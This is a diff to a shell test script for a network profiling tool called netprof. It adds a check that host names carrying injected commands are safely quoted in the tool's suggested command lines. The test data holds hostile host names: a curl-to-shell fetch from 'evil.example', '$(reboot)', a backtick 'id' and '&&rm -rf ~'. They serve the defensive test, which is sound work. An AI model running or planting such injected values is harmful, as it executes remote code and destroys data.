@@ -11,7 +11,8 @@
 # are no time; kind, metric and host names reach the terminal without
 # control characters (C1 and bytes that are not UTF-8 included, in --text
 # and --metrics alike); write errors on standard output exit 1 (heatmap
-# --text, plan --json, check).
+# --text, plan --json, check); the diagnosis' advice quotes a hostile
+# host name where it offers a command line.
 . "$(dirname "$0")/lib.sh"
 require_cmd jq mkfifo /usr/bin/time
 
@@ -193,6 +194,44 @@ LC_ALL=C grep -qxF $'netprof_ping_rtt_avg_seconds{source="n3\xef\xbf\xbd]0;TITLE
     fail "the metrics' labels: $(grep -a 'rtt_avg.*n3' esc.prom | od -c | head)"
 LC_ALL=C grep -qxF $'netprof_host_up{host="n5\xef\xbf\xbdx"} 1' esc.prom ||
     fail "a byte that is not UTF-8: $(grep -a 'host=.n5' esc.prom | od -c | head)"
+
+# The diagnosis' advice names hosts of the records in command lines: a
+# name that breaks the name rule is one quoted word there (a good one is
+# as it is), and a record's command is not offered to be run as it is.
+A='x;curl${IFS}evil.example|sh' B="y\$(reboot)'q" C='z`id`' D='w&&rm -rf ~'
+rec() {	# SOURCE TARGET KIND [METRICS|ERROR CLASS]
+	if [ $# = 4 ]; then
+		jq -cn --arg s "$1" --arg t "$2" --arg k "$3" --argjson m "$4" \
+		    '{kind:$k,source:$s,target:$t,ok:true,metrics:$m}'
+	else
+		jq -cn --arg s "$1" --arg t "$2" --arg k "$3" --arg e "$4" \
+		    --arg c "$5" '{kind:$k,source:$s,target:$t,ok:false,error:$e,error_class:$c}'
+	fi
+}
+for s in a b c d "$A" "$B" "$C" "$D"; do
+	for t in a b c d "$A" "$B" "$C" "$D"; do
+		[ "$s" = "$t" ] && continue
+		case $s in
+		"$B") rec "$s" "$t" ping "authentication failed" auth ;;
+		"$C") rec "$s" "$t" ping "could not parse the output" tool_failed ;;
+		"$D") rec "$s" "$t" ping "auth failed" auth
+		      rec "$s" "$t" iperf3 "auth failed" auth ;;
+		*) rec "$s" "$t" ping '{"avg":1}' ;;
+		esac
+		m=940; [ "$s" = "$A" ] && [ "$t" = a ] && m=100
+		[ "$s" = "$D" ] || rec "$s" "$t" iperf3 "{\"mbps\":$m}"
+	done
+done >advice.jsonl
+"$NETPROF_BIN" heatmap -i advice.jsonl --text >advice.txt 2>/dev/null
+for want in \
+    "    try: Run netprof check --config FILE --hosts 'y\$(reboot)'\\''q': it names the reason (sshd, its port, the host key, the login) and the fix." \
+    "    try: Check w&&rm -rf ~'s sshd and what guards its SSH port; netprof check --config FILE --hosts 'w&&rm -rf ~' names the reason." \
+    "    try: One throughput test, one way, and nothing else on the pair says so: a short TCP test now and then collapses. Measure the pair again (netprof collect --iperf -H 'x;curl\${IFS}evil.example|sh',a, or read two runs together with netprof heatmap --aggregate median); if it holds, check the path x;curl\${IFS}evil.example|sh -> a (mtr both ways, a rule that shapes it)." \
+    "    try: Run the probe by hand to see the tool's whole output on z\`id\`; the record's command field is the line as the records file gives it (anyone may have written it): read it before you run it."; do
+	grep -qxF -- "$want" advice.txt ||
+	    fail "the advice: want '$want'; the text has: $(grep 'try:' advice.txt)"
+	TEST_CHECKS=$((TEST_CHECKS + 1))
+done
 
 # A failed record of a host against itself (found by fuzzing: a crash).
 printf '%s\n' '{"kind":"ping","source":"a","target":"a","ok":false,"error":"x"}' \
